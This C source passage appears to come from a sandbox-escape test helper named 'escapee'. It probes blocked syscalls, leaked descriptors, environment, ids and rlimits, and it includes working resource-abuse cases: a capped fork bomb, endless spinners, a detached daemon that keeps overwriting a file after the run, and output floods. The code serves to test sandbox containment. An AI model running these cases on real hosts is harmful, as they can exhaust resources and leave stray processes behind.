/* clone3(NULL, 0): kernel EINVAL (size below CLONE_ARGS_SIZE_VER0). */
static int c_sys_clone3(int argc, char **argv)
{
	(void)argc, (void)argv;
	return judge("clone3", syscall(SYS_clone3, NULL, 0), EINVAL);
}

/* mount onto a missing directory: kernel ENOENT. */
static int c_sys_mount(int argc, char **argv)
{
	(void)argc, (void)argv;
	return judge("mount", syscall(SYS_mount, "none", "/nonexistent-gob-escape", "tmpfs", 0, NULL), ENOENT);
}

/* umount2 with an unknown flag: kernel EINVAL. */
static int c_sys_umount(int argc, char **argv)
{
	(void)argc, (void)argv;
	return judge("umount2", syscall(SYS_umount2, "/", 0x80000000L), EINVAL);
}

/* chroot to a missing directory: kernel ENOENT. */
static int c_sys_chroot(int argc, char **argv)
{
	(void)argc, (void)argv;
	return judge("chroot", syscall(SYS_chroot, "/nonexistent-gob-escape"), ENOENT);
}

/* pivot_root: the kernel checks may_mount() before the paths, so an
 * unprivileged caller gets EPERM from the kernel too; the filter cannot be told
 * apart here (root on the host gets ENOENT). */
static int c_sys_pivot_root(int argc, char **argv)
{
	(void)argc, (void)argv;
	return judge("pivot_root", syscall(SYS_pivot_root, "/nonexistent-gob-escape", "/nonexistent-gob-escape"), ENOENT);
}

/* setns(-1): kernel EBADF. */
static int c_sys_setns(int argc, char **argv)
{
	(void)argc, (void)argv;
	return judge("setns", syscall(SYS_setns, -1, 0), EBADF);
}

/* keyctl with an unknown operation: kernel EOPNOTSUPP; add_key and
 * request_key with a NULL type: kernel EFAULT. */
static int c_sys_keyctl(int argc, char **argv)
{
	(void)argc, (void)argv;
	long r = syscall(SYS_keyctl, 0x7fffffffL, 0, 0, 0, 0);
	if (r >= 0 || errno == EOPNOTSUPP)
		return judge("keyctl", r, EOPNOTSUPP);
	int e = errno;
	r = syscall(SYS_add_key, NULL, NULL, NULL, 0, -1);
	if (r >= 0 || errno == EFAULT)
		return judge("add_key", r, EFAULT);
	if (errno != e)
		return blocked("errno=%s but add_key gave %s", ename(e), ename(errno));
	r = syscall(SYS_request_key, NULL, NULL, NULL, 0);
	if (r >= 0 || errno == EFAULT)
		return judge("request_key", r, EFAULT);
	if (errno != e)
		return blocked("errno=%s but request_key gave %s", ename(e), ename(errno));
	return blocked_errno(e);
}

/* bpf(BPF_PROG_LOAD, NULL, 2 pages): kernel E2BIG (attr larger than a page). */
static int c_sys_bpf(int argc, char **argv)
{
	(void)argc, (void)argv;
	return judge("bpf", syscall(SYS_bpf, 5 /* BPF_PROG_LOAD */, NULL, 8192), E2BIG);
}

/* perf_event_open with unknown flags: kernel EINVAL. */
static int c_sys_perf(int argc, char **argv)
{
	(void)argc, (void)argv;
	return judge("perf_event_open", syscall(SYS_perf_event_open, NULL, 0, -1, -1, ~0UL), EINVAL);
}

/* userfaultfd(UFFD_USER_MODE_ONLY | unknown bit): kernel EINVAL. */
static int c_sys_userfaultfd(int argc, char **argv)
{
	(void)argc, (void)argv;
	return judge("userfaultfd", syscall(SYS_userfaultfd, 1L /* UFFD_USER_MODE_ONLY */ | 0x40000000L), EINVAL);
}

/* ptrace(PTRACE_ATTACH) of a pid that cannot exist: kernel ESRCH. */
static int c_sys_ptrace(int argc, char **argv)
{
	(void)argc, (void)argv;
	return judge("ptrace", syscall(SYS_ptrace, PTRACE_ATTACH, 0x3ffffff0L, 0, 0), ESRCH);
}

/* open_tree with unknown flags: kernel EINVAL. */
static int c_sys_open_tree(int argc, char **argv)
{
	(void)argc, (void)argv;
	return judge("open_tree", syscall(SYS_open_tree, -1, "/", ~0U), EINVAL);
}

/* mount_setattr with unknown flags: kernel EINVAL. */
static int c_sys_mount_setattr(int argc, char **argv)
{
	(void)argc, (void)argv;
	return judge("mount_setattr", syscall(SYS_mount_setattr, -1, "/", ~0U, NULL, 0), EINVAL);
}

/* --------------------------------------------------------- leaked state */

/* fds: any descriptor above 2 open? */
static int c_fds(int argc, char **argv)
{
	char list[2048] = "";
	(void)argc, (void)argv;
	for (int fd = 3; fd < 1024; fd++) {
		if (fcntl(fd, F_GETFD) < 0)
			continue;
		char p[64], t[256] = "?";
		snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
		ssize_t n = readlink(p, t, sizeof t - 1);
		if (n >= 0)
			t[n] = 0;
		snprintf(list + strlen(list), sizeof list - strlen(list), " %d=%s", fd, t);
	}
	if (*list)
		return escaped("open fds:%s", list);
	return blocked("none");
}

/* env NAME=VALUE...: the environment must be exactly this set. */
static int c_env(int argc, char **argv)
{
	int n = 0;
	for (char **e = environ; *e; e++, n++) {
		int ok = 0;
		for (int j = 0; j < argc; j++)
			ok |= !strcmp(*e, argv[j]);
		if (!ok)
			return escaped("unexpected %s", *e);
	}
	for (int j = 0; j < argc; j++) {
		int ok = 0;
		for (char **e = environ; *e; e++)
			ok |= !strcmp(*e, argv[j]);
		if (!ok)
			return escaped("missing %s", argv[j]);
	}
	return blocked("vars=%d", n);
}

/* hostname <expected> */
static int c_hostname(int argc, char **argv)
{
	struct utsname u;
	NEED(1);
	uname(&u);
	if (strcmp(u.nodename, argv[0]))
		return escaped("hostname=%s", u.nodename);
	return blocked("hostname=%s", u.nodename);
}

static int nnp(void) { return prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0); }

/* ids <uid> <gid>: real, effective and saved ids; no-new-privs. */
static int c_ids(int argc, char **argv)
{
	uid_t r, e, s;
	gid_t gr, ge, gs;
	NEED(2);
	getresuid(&r, &e, &s);
	getresgid(&gr, &ge, &gs);
	char d[256];
	snprintf(d, sizeof d, "uid=%d/%d/%d gid=%d/%d/%d nnp=%d", r, e, s, gr, ge, gs, nnp());
	long u = num(argv[0]), g = num(argv[1]);
	if (r != u || e != u || s != u || gr != g || ge != g || gs != g || nnp() != 1)
		return escaped("%s", d);
	return blocked("%s", d);
}

/* suid <uid>: run as a setuid copy of escapee; ids must not change. */
static int c_suid(int argc, char **argv)
{
	uid_t r, e, s;
	NEED(1);
	getresuid(&r, &e, &s);
	struct statvfs v;
	if (statvfs((const char *)getauxval(AT_EXECFN), &v) == 0)
		info("nosuid=%d", !!(v.f_flag & ST_NOSUID));
	long u = num(argv[0]);
	if (r != u || e != u || s != u || nnp() != 1)
		return escaped("uid=%d/%d/%d nnp=%d", r, e, s, nnp());
	return blocked("uid=%d/%d/%d nnp=%d", r, e, s, nnp());
}

/* rlimit-raise: raising any hard limit back must fail. */
static int c_rlimit_raise(int argc, char **argv)
{
	static const struct { const char *n; int r; } lim[] = {
		{"AS", RLIMIT_AS},       {"NPROC", RLIMIT_NPROC},   {"FSIZE", RLIMIT_FSIZE},
		{"NOFILE", RLIMIT_NOFILE}, {"CPU", RLIMIT_CPU},
	};
	char checked[128] = "";
	int e0 = 0;
	(void)argc, (void)argv;
	for (size_t i = 0; i < sizeof lim / sizeof *lim; i++) {
		struct rlimit l;
		getrlimit(lim[i].r, &l);
		if (l.rlim_max == RLIM_INFINITY)
			continue;
		struct rlimit up = {l.rlim_max + 1, l.rlim_max + 1};
		if (lim[i].r == RLIMIT_NOFILE)
			up.rlim_cur = l.rlim_cur;
		if (setrlimit(lim[i].r, &up) == 0)
			return escaped("raised RLIMIT_%s from %llu", lim[i].n, (unsigned long long)l.rlim_max);
		if (e0 && errno != e0)
			return blocked("errno=%s but RLIMIT_%s gave %s", ename(e0), lim[i].n, ename(errno));
		e0 = errno;
		snprintf(checked + strlen(checked), sizeof checked - strlen(checked), "%s%s", *checked ? "," : "", lim[i].n);
	}
	if (!e0)
		return fail("no finite hard limit to raise");
	return blocked("errno=%s limits=%s", ename(e0), checked);
}

/* ------------------------------------------------------------- resources */

/* alloc <GiB>: map that much and (only if it were granted) report. Touching
 * 64 GiB would take the host down with it, so a granted mapping is reported,
 * never touched. */
static int c_alloc(int argc, char **argv)
{
	NEED(1);
	size_t n = (size_t)num(argv[0]) << 30;
	void *m = malloc(n);
	int me = errno;
	if (m)
		return escaped("malloc(%s GiB) succeeded", argv[0]);
	void *p = mmap(NULL, n, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
	if (p != MAP_FAILED)
		return escaped("mmap(%s GiB) succeeded", argv[0]);
	if (errno != me)
		return blocked("errno=%s (malloc: %s)", ename(errno), ename(me));
	return blocked_errno(errno);
}

/* forkbomb <cap> <marker>: fork children that sleep forever until fork fails
 * or cap children exist (the cap keeps a failing test from taking the host
 * down). The children are left behind: the sandbox must kill them. */
static int c_forkbomb(int argc, char **argv)
{
	NEED(2);
	long cap = num(argv[0]), n = 0;
	for (;;) {
		if (n >= cap)
			return escaped("forked %ld processes without hitting a limit", n);
		pid_t p = fork();
		if (p == 0) {
			for (;;)
				pause();
		}
		if (p < 0)
			return blocked("errno=%s forks=%ld", ename(errno), n);
		n++;
	}
}

/* spin [marker]: an endless loop. */
static int c_spin(int argc, char **argv)
{
	(void)argc, (void)argv;
	for (volatile unsigned long i = 0;; i++)
		;
	return 2;
}

/* spin-tree <marker>: a child and the parent, both spinning. */
static int c_spin_tree(int argc, char **argv)
{
	NEED(1);
	if (fork() < 0)
		return fail("fork: %s", ename(errno));
	return c_spin(argc, argv);
}

/* daemon <marker> [keep-stdout | touch=<path>]: double fork; the grandchild
 * sleeps forever in a new session, with stdout/stderr closed unless
 * keep-stdout (a daemon that holds the caller's pipe open). With touch=, it
 * waits 300 ms (until the run has returned), then keeps writing <path> (an
 * output swapped after the run). The parent reports and exits at once. */
static int c_daemon(int argc, char **argv)
{
	NEED(1);
	(void)argv;
	pid_t p = fork();
	if (p < 0)
		return fail("fork: %s", ename(errno));
	if (p == 0) {
		setsid();
		pid_t q = fork();
		if (q != 0)
			_exit(q < 0);
		const char *touch = argc >= 2 && !strncmp(argv[1], "touch=", 6) ? argv[1] + 6 : NULL;
		if (argc < 2 || touch) {
			close(0);
			close(1);
			close(2);
		}
		if (touch) {
			usleep(300000);
			for (;;) {
				int fd = open(touch, O_WRONLY | O_CREAT | O_TRUNC, 0644);
				if (fd >= 0) {
					(void)!write(fd, "swapped\n", 8);
					close(fd);
				}
				usleep(50000);
			}
		}
		for (;;)
			pause();
	}
	int st;
	waitpid(p, &st, 0);
	if (!WIFEXITED(st) || WEXITSTATUS(st))
		return fail("second fork failed");
	return report("detached");
}

/* flood <bytes>: write that much to stdout; the RESULT line goes to stderr. */
static int c_flood(int argc, char **argv)
{
	static char chunk[1 << 20];
	NEED(1);
	g_out = 2;
	long long want = strtoll(argv[0], NULL, 0), done = 0;
	memset(chunk, 'A', sizeof chunk);
	while (done < want) {
		size_t n = want - done < (long long)sizeof chunk ? (size_t)(want - done) : sizeof chunk;
		ssize_t w = write(1, chunk, n);
		if (w < 0)
			return fail("write after %lld bytes: %s", done, ename(errno));
		done += w;
	}
	return report("wrote=%lld", done);
}

/* ----------------------------------------------------------------- table */

static const struct {
	const char *name;
	int (*fn)(int, char **);
} cases[] = {
	{"read", c_read},
	{"list", c_list},
	{"reopen-rw", c_reopen_rw},
	{"proc-scan", c_proc_scan},
	{"write-trunc", c_write_trunc},
	{"write-new", c_write_new},
	{"create", c_create},
	{"truncate", c_truncate},
	{"chmod", c_chmod},
	{"utimes", c_utimes},
	{"chown", c_chown},
	{"fchmod", c_fchmod},
	{"setxattr", c_setxattr},
	{"setflags", c_setflags},
	{"unlink", c_unlink},
	{"rename", c_rename},
	{"link", c_link},
	{"symlink-write", c_symlink_write},
	{"chdir-up", c_chdir_up},
	{"mknod", c_mknod},
	{"bigfile", c_bigfile},
	{"tcp", c_tcp},
	{"udp", c_udp},
	{"unix-connect", c_unix_connect},
	{"unix-path-connect", c_unix_path_connect},
	{"uring-udp", c_uring_udp},
	{"unix-listen", c_unix_listen},
	{"socket-families", c_socket_families},
	{"vsock-listen", c_vsock_listen},
	{"nl-send", c_nl_send},
	{"nl-listen", c_nl_listen},
	{"netifs", c_netifs},
	{"kill", c_kill},
	{"kill-any", c_kill_any},
	{"ptrace-attach", c_ptrace_attach},
	{"ptrace-seize", c_ptrace_seize},
	{"vm-read", c_vm_read},
	{"tiocsti", c_tiocsti},
	{"sys-unshare", c_sys_unshare},
	{"sys-clone-ns", c_sys_clone_ns},
	{"sys-clone3", c_sys_clone3},
	{"sys-mount", c_sys_mount},
	{"sys-umount", c_sys_umount},
	{"sys-chroot", c_sys_chroot},
	{"sys-pivot-root", c_sys_pivot_root},
	{"sys-setns", c_sys_setns},
	{"sys-keyctl", c_sys_keyctl},
	{"sys-bpf", c_sys_bpf},
	{"sys-perf", c_sys_perf},
	{"sys-userfaultfd", c_sys_userfaultfd},
	{"sys-ptrace", c_sys_ptrace},
	{"sys-open-tree", c_sys_open_tree},
	{"sys-mount-setattr", c_sys_mount_setattr},
	{"fds", c_fds},
	{"env", c_env},
	{"hostname", c_hostname},
	{"ids", c_ids},
	{"suid", c_suid},
	{"rlimit-raise", c_rlimit_raise},
	{"alloc", c_alloc},
	{"forkbomb", c_forkbomb},
	{"spin", c_spin},
	{"spin-tree", c_spin_tree},
	{"daemon", c_daemon},
	{"flood", c_flood},
};

int main(int argc, char **argv)
{
	if (argc < 2) {
		dprintf(2, "usage: escapee <case> [args...]\ncases:");
		for (size_t i = 0; i < sizeof cases / sizeof *cases; i++)
			dprintf(2, " %s", cases[i].name);
		dprintf(2, "\n");
		return 2;
	}
	g_case = argv[1];
	for (size_t i = 0; i < sizeof cases / sizeof *cases; i++)
		if (!strcmp(cases[i].name, argv[1]))
			return cases[i].fn(argc - 2, argv + 2);
	return fail("unknown case");
}
